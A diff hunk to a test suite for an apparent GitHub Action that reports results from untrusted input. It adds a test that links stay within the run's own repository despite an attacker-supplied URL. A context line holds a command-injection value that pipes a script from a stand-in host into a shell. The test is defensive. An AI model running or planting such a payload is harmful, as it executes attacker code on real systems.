@@ -109,6 +109,16 @@ describe('run (mode: comment)', () => {
     expect(outputs()['verdict']).toBe('pass')
   })
 
+  it("links the leaking line into this run's repository, whatever address the untrusted report gives", async () => {
+    const commit = 'b'.repeat(40)
+    await runWith(makeReport({ source: { repositoryUrl: 'https://github.com/mallory/phish', commit } }))
+    const body = comments()[0].body
+    expect(body).toContain(
+      `<a href="https://github.com/octo/service/blob/${commit}/service/main.go&#35;L21">`
+    )
+    expect(body).not.toContain('mallory')
+  })
+
   it('copies only finite numbers from an untrusted report into outputs', async () => {
     const report = makeReport({ verdict: 'pass' })
     const hostile = '1; curl http://evil.example | sh #'
